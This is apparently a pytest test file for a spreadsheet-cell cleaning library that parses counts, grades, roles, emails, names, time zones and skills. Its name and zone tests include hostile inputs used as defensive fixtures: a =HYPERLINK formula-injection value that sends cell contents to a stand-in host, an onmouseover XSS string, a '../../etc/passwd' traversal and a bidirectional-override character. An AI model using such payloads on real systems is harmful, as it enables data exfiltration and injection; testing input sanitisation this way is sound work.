"""Single cells: numbers, levels, roles, addresses, zones, skills."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cohortopt.io.doctor.cells import (
    Grades,
    read_amount,
    read_count,
    read_email,
    read_roles,
    tidy,
    tidy_name,
)
from cohortopt.io.doctor.skills_text import Spellings, read_skills_cell, skill_fold
from cohortopt.io.doctor.zones import read_zone, suggest_zone
from cohortopt.model.time import zone


@pytest.mark.parametrize(
    ("text", "value", "code"),
    [
        ("3", 3, ""), ("0", 0, ""), ("３", 3, ""), ("two", 2, "CO212"), ("3 max!", 3, "CO212"),
        ("Two or three", 2, "CO323"), ("2-3", 2, "CO323"), ("٣", 3, "CO212"), ("3.0", 3, ""),
        ("-1", None, "CO322"), ("1e9", None, "CO322"), ("inf", None, "CO322"),
        ("1_000", None, "CO322"), ("9" * 5000, None, "CO322"), ("1.5", None, "CO322"),
        ("as many as needed", None, "CO322"), ("99999", None, "CO322"), ("n/a", None, "CO320"),
        ("2-Mar", None, "CO334"),
    ],
)  # fmt: skip
def test_counts(text: str, value: int | None, code: str) -> None:
    assert read_count(text)[:2] == (value, code)


@pytest.mark.parametrize(
    ("text", "value", "code"),
    [("1.5", 1.5, ""), ("1,5", 1.5, "CO212"), ("4-6", 4.0, "CO323"), ("2 hours", 2.0, "CO212"),
     ("NaN", None, "CO320"), ("745", None, "CO322"), ("1E+05", None, "CO322")],
)  # fmt: skip
def test_amounts(text: str, value: float | None, code: str) -> None:
    assert read_amount(text)[:2] == (value, code)


@given(st.text(max_size=40))
def test_numbers_never_break_and_stay_in_range(text: str) -> None:
    for cell in (read_count(text), read_amount(text)):
        assert cell.value is None or 0 <= cell.value <= 1000


def test_levels_follow_the_usual_ladder_where_none_is_given() -> None:
    read = Grades().read
    assert [read(text).value for text in ("4", "L4", "Senior", "Sr.", "5 - Lead", "Head of")] == [
        4, 4, 4, 4, 5, 6,
    ]  # fmt: skip
    assert read("senior-ish") == (None, "CO321", "")


def test_levels_follow_the_scenarios_grades_from_one() -> None:
    read = Grades(["AA", "AO", "EO", "Grade 7", "Grade 6", "SCS1"]).read
    assert [read(text).value for text in ("AA", "eo", "g7", "Grade 6", "SCS 1", "L2")] == [
        1, 3, 4, 5, 6, 2,
    ]  # fmt: skip
    assert read("Senior") == (None, "CO321", "")


@pytest.mark.parametrize(
    ("text", "roles"),
    [("mentor", ("mentor",)), ("Mentor; peer", ("mentor", "peer")), ("Advisor", ("mentor",)),
     ("mentor and mentee", ("mentor", "mentee")), ("both", ("both",)), ("disabled", ("none",)),
     ("I'd like to be a mentor", ("mentor",)), ("astronaut", None)],
)  # fmt: skip
def test_roles(text: str, roles: tuple[str, ...] | None) -> None:
    assert read_roles(text).value == roles


@pytest.mark.parametrize(
    ("text", "address", "code"),
    [("a@b.org", "a@b.org", ""), ("mailto:a@b.org", "a@b.org", "CO216"),
     ("a@b.org;A@b.org", "a@b.org", "CO216"), ("Ann <a@b.org>", "a@b.org", "CO216"),
     ("a at b.org", None, "CO329"), ("a@@b.org", None, "CO329"), ("a@b", None, "CO329"),
     ("a@b.org; c@d.org", None, "CO329"), ("a" * 30_000 + "@", None, "CO329")],
)  # fmt: skip
def test_addresses(text: str, address: str | None, code: str) -> None:
    assert read_email(text)[:2] == (address, code)


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://example.invalid?x="&A2,"Ann Lee")', "+Ann Lee", "@Ann Lee",
     "<b onmouseover=alert(1)>Ann Lee</b>", "Ann Lee\n(he/him)", "../../Ann Lee", "\u202eAnn Lee",
     "Ann Lee\u200b", "  Ann\u00a0 Lee "],
)  # fmt: skip
def test_names_lose_what_clings_to_them(text: str) -> None:
    assert tidy_name(tidy(text)).value == "Ann Lee"


@pytest.mark.parametrize("text", ["O'Brien", "Zoë", "=1+1", "X Æ A-12", "null", "None", "NaN", "-"])
def test_odd_names_are_left_alone(text: str) -> None:
    assert tidy_name(tidy(text)).value == text


def test_accents_are_composed_and_mended() -> None:
    assert tidy("Rene\u0301e") == "Renée"
    assert tidy_name("RenÃ©e") == ("Renée", "CO219", "")


@given(st.text(max_size=40))
def test_tidying_twice_changes_nothing_more(text: str) -> None:
    once = tidy(text)
    if "'" not in once:
        assert tidy(once) == once


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Europe/Paris", "Europe/Paris"), ("europe/paris", "Europe/Paris"), ("UTC", "UTC"),
        ("London", "Europe/London"), ("São Paulo", "America/Sao_Paulo"), ("India", "Asia/Kolkata"),
        ("Bangalore", "Asia/Kolkata"), ("Eastern", "America/New_York"),
        ("Singapore", "Asia/Singapore"), ("GMT/BST", "Europe/London"),
        ("Pacific: US and Canada; Tijuana [GMT-08:00]", "America/Los_Angeles"),
        ("GTB: Athens, Istanbul, Minsk [GMT+02:00]", "Europe/Athens"),
        ("GMT (London)", "Europe/London"), ("CST (Chicago)", "America/Chicago"),
    ],
)  # fmt: skip
def test_zones_people_write(text: str, name: str) -> None:
    found = read_zone(text)
    assert found.name == name
    assert found.code in ("", "CO210")


@pytest.mark.parametrize(
    ("text", "name"),
    [("EST", "America/New_York"), ("GMT+1", "UTC+01:00"), ("UTC-5", "UTC-05:00"),
     ("UTC+5:30", "UTC+05:30"), ("IST", "Asia/Kolkata"), ("CET", "Europe/Berlin")],
)  # fmt: skip
def test_offsets_and_abbreviations_warn_of_daylight_saving(text: str, name: str) -> None:
    assert read_zone(text)[:2] == (name, "CO325")


@pytest.mark.parametrize("text", ["CST", "Mars/Olympus", "../../etc/passwd", "UTC+25", "x" * 9000])
def test_unknown_zones_stay_unknown(text: str) -> None:
    assert read_zone(text)[:2] == (None, "CO324")


@given(st.text(max_size=30) | st.from_regex(r"(UTC|GMT)?[+-]\d{1,2}(:\d\d)?", fullmatch=True))
def test_every_zone_found_is_one_that_the_model_knows(text: str) -> None:
    name = read_zone(text).name
    assert name is None or zone(name) is not None


def test_a_mistyped_zone_is_suggested() -> None:
    assert suggest_zone("Londn") == "Europe/London"


def test_skills_in_many_styles() -> None:
    cases = {
        "SQL:4; C++:3": (("SQL", 4), ("C++", 3)),
        "R:5, A/B testing:4": (("R", 5), ("A/B testing", 4)),
        "Python (advanced), Excel (VBA)": (("Python", 4), ("Excel (VBA)", 3)),
        "Python = 5 | SQL": (("Python", 5), ("SQL", 3)),
        "Python - expert\nSQL (4/5)": (("Python", 5), ("SQL", 4)),
        "Oil, gas and energy:2; SQL": (("Oil, gas and energy", 2), ("SQL", 3)),
        "SQL\u00a0:\u00a04;\u00a0C++\u2009: 3": (("SQL", 4), ("C++", 3)),
        "Topic: leading": (("Topic: leading", 3),),
        ";;;": (),
    }
    for text, items in cases.items():
        assert read_skills_cell(text).items == items


def test_odd_skills_are_reported() -> None:
    assert read_skills_cell("SQL:99") == ((("SQL", 5),), (("CO330", "SQL:99"),))
    assert read_skills_cell("SQL:4; sql:2").items == (("SQL", 4),)
    assert read_skills_cell("SQL:4; sql:2").remarks[0][0] == "CO331"
    assert read_skills_cell("2-Mar").remarks[0][0] == "CO334"
    assert read_skills_cell("; ".join(f"s{k}" for k in range(5000))).remarks[-1][0] == "CO332"


def test_signs_keep_skills_apart() -> None:
    different = ["c", "c++", "c#", ".net", "net", "java", "javascript", "r", "go", "f#"]
    assert len({skill_fold(name) for name in different}) == len(different)
    assert skill_fold("Machine-Learning") == skill_fold("machine  learning")
    assert skill_fold("A/B testing") == skill_fold("AB testing")


def spelt(counts: dict[str, int], decided: dict[str, str] | None = None) -> Spellings:
    spellings = Spellings(decided)
    spellings.counts.update(counts)
    spellings.settle()
    return spellings


def test_spellings_join_by_folding_and_alias() -> None:
    found = spelt({"JavaScript": 3, "java script": 1, "JS": 1, "k8s": 2, "Budget plan": 1,
                   "budget-plan": 2})  # fmt: skip
    assert {found.name(s) for s in ("JavaScript", "java script", "JS")} == {"JavaScript"}
    assert found.name("k8s") == "Kubernetes"
    assert found.name("Budget plan") == "budget-plan"


def test_near_misses_are_suggested_and_never_joined() -> None:
    found = spelt(
        {"Python": 9, "pyhton": 1, "java": 1, "javascript": 9, "c": 1, "c++": 9, "R2D2": 1}
    )
    assert found.name("pyhton") == "pyhton"
    assert found.near_misses() == {"pyhton": "Python"}


def test_the_decision_file_is_obeyed() -> None:
    decided = {"pyhton": "Python", "JS": "JScript"}
    found = spelt({"Python": 9, "pyhton": 1, "JS": 1, "JavaScript": 1}, decided)
    assert (found.name("pyhton"), found.name("JS")) == ("Python", "JScript")
    assert found.near_misses() == {}


@given(st.dictionaries(st.text(min_size=1, max_size=12), st.integers(1, 5), max_size=12))
def test_the_order_of_rows_never_matters_to_spellings(counts: dict[str, int]) -> None:
    backwards = dict(reversed(list(counts.items())))
    assert spelt(counts).chosen == spelt(backwards).chosen
